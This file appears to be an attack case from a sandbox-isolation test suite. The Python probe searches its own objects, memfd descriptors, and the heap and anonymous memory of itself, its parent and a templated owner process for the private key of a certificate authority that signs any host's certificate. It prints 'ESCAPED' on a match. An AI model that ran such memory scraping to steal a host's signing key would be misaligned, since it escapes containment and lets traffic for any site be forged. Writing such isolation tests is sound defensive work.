# attack: the relay's authority signs any host's certificate; its key lies in the owner's memory or a memory file
# expect: sandbox
# validator: refused
import gc
import os
import re
import socket
import ssl
import sys
from pathlib import Path

MARK = re.compile(rb"-----BEGIN (?:EC |RSA )?PRIVATE" + rb" KEY-----[A-Za-z0-9+/\s]{40}")


def found(where, data):
    if MARK.search(data):
        print("ESCAPED: a private key in", where, flush=True)


def descriptors(process):
    folder = f"/proc/{process}/fd"
    for name in os.listdir(folder):
        try:
            if "memfd" in os.readlink(f"{folder}/{name}"):
                found(f"{folder}/{name}", Path(f"{folder}/{name}").read_bytes())
        except OSError:
            continue


def memory(process):
    # Bounded: heaps and anonymous maps only, 64 MB in all.
    left = 64 << 20
    with open(f"/proc/{process}/mem", "rb", 0) as file:
        for line in Path(f"/proc/{process}/maps").read_text().splitlines():
            place = re.match(r"(\w+)-(\w+) rw", line)
            if place and left > 0 and ("[heap]" in line or line.split()[4] == "0"):
                start, end = int(place[1], 16), int(place[2], 16)
                size = min(end - start, left)
                left -= size
                file.seek(start)
                try:
                    found(f"memory of {process}", file.read(size))
                except OSError:
                    continue


def own_objects():
    for item in gc.get_objects():
        if isinstance(item, dict):
            for value in list(item.values()):
                if isinstance(value, str | bytes):
                    found("an object", value if isinstance(value, bytes) else value.encode(errors="replace"))


def what_the_relay_sends():
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    context = ssl.create_default_context()
    with context.wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        found("the handshake", tls.getpeercert(True) + repr(tls.getpeercert()).encode())
    # A certificate that may sign others would make its key the authority's.
    for certificate in context.get_ca_certs(binary_form=True):
        found("the trusted certificate", certificate)


for attempt in (
    own_objects,
    what_the_relay_sends,
    *(
        lambda way=way, process=process: way(process)
        for way in (descriptors, memory)
        for process in ("self", os.getppid(), @OWNER_PID@)
    ),
):
    try:
        attempt()
    except Exception as error:
        print(type(error).__name__, error, file=sys.stdout)
